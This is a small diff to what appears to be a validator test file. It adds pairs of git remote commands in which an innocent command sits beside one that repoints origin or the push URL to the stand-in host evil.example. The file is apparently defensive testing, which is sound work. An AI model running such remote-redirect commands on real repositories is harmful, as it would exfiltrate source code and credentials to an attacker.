@@ -76,5 +76,10 @@ testHoles({
     ['git remote set-url origin https://x-access-token:$T@github.com/acme/app.git', 'git remote set-url --push origin https://evil.example/x.git'],
     ['git remote add upstream https://github.com/org/proj.git', 'git config remote.origin.url ssh://git@evil.example/x.git'],
     ['git config remote.origin.url git@github.com:acme/app.git', 'git -C src remote set-url origin https://evil.example/x.git'],
+    [
+      'git remote remove upstream && git remote add upstream https://github.com/org/proj.git',
+      'git remote remove origin && git remote add origin https://evil.example/x.git',
+    ],
+    ['git remote add -t main -f upstream https://evil.example/x.git', 'git remote add -t main -f origin https://evil.example/x.git'],
   ],
 });
